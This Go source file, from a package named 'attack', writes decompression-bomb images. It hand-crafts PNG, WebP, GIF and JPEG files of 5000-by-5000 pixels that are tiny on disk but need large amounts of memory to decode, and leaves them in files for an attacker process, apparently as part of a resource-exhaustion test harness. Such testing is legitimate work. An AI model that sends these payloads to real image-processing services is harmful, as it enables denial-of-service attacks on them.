package attack

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
)

// side is that of pictures of 25 megapixels, as many as are allowed.
const side = 5000

// bombs make small files of such pictures, which take much memory to decode.
var bombs = []func() []byte{bombPNG, bombWebP, bombGIF, bombJPEG}

// gifBomb is the index of bombGIF, which is decoded soonest.
const gifBomb = 2

// bombFile is where the parent process leaves a bomb for the attacker, because making it
// takes longer than the attack.
func bombFile(dir string, i int) string { return filepath.Join(dir, "bomb"+strconv.Itoa(i)) }

func writeBombs(dir string) error {
	for i, make := range bombs {
		if err := os.WriteFile(bombFile(dir, i), make(), 0o644); err != nil {
			return err
		}
	}
	return nil
}

// bombPNG has samples of 16 bits and is interlaced, all black.
func bombPNG() []byte {
	var out, pixels bytes.Buffer
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&out, binary.BigEndian, uint32(len(data)))
		body := append([]byte(kind), data...)
		out.Write(body)
		_ = binary.Write(&out, binary.BigEndian, crc32.ChecksumIEEE(body))
	}
	out.WriteString("\x89PNG\r\n\x1a\n")
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, side), side)
	chunk("IHDR", append(head, 16, 2, 0, 0, 1))
	z := zlib.NewWriter(&pixels)
	_, _ = io.CopyN(z, zeros{}, 6*side*side+side*8) // and the filters of all passes
	_ = z.Close()
	chunk("IDAT", pixels.Bytes())
	chunk("IEND", nil)
	return out.Bytes()
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func bombGIF() []byte {
	var out bytes.Buffer
	img := image.NewPaletted(image.Rect(0, 0, side, side), color.Palette{color.Black, color.White})
	_ = gif.Encode(&out, img, nil)
	return out.Bytes()
}

// bombWebP is lossless and of one colour: five Huffman codes of one symbol each, which take
// no bits for a pixel (RFC 9649, section 3.7.2.1.1).
func bombWebP() []byte {
	size := uint32(side-1) | uint32(side-1)<<14
	data := append([]byte{0x2f}, binary.LittleEndian.AppendUint32(nil, size)...)
	data = append(data, 0x88, 0x88, 0x08)
	out := append([]byte("RIFF"), binary.LittleEndian.AppendUint32(nil, uint32(12+len(data)))...)
	out = append(append(out, "WEBPVP8L"...), binary.LittleEndian.AppendUint32(nil, uint32(len(data)))...)
	return append(out, data...)
}

// bombJPEG is progressive and 4:4:4, and breaks off after the beginning of its first scan.
func bombJPEG() []byte {
	var out bytes.Buffer
	segment := func(marker byte, data string) {
		out.Write([]byte{0xff, marker, byte((len(data) + 2) >> 8), byte(len(data) + 2)})
		out.WriteString(data)
	}
	out.WriteString("\xff\xd8")
	segment(0xdb, "\x00"+strings.Repeat("\x01", 64))
	segment(0xc2, "\x08"+string([]byte{side >> 8, side & 0xff, side >> 8, side & 0xff})+"\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00")
	segment(0xc4, "\x00\x01"+strings.Repeat("\x00", 15)+"\x00") // one code, 0: no difference
	segment(0xda, "\x03\x01\x00\x02\x00\x03\x00\x00\x00\x00")
	out.Write(make([]byte, 1<<20)) // of which each bit is a block
	return out.Bytes()
}
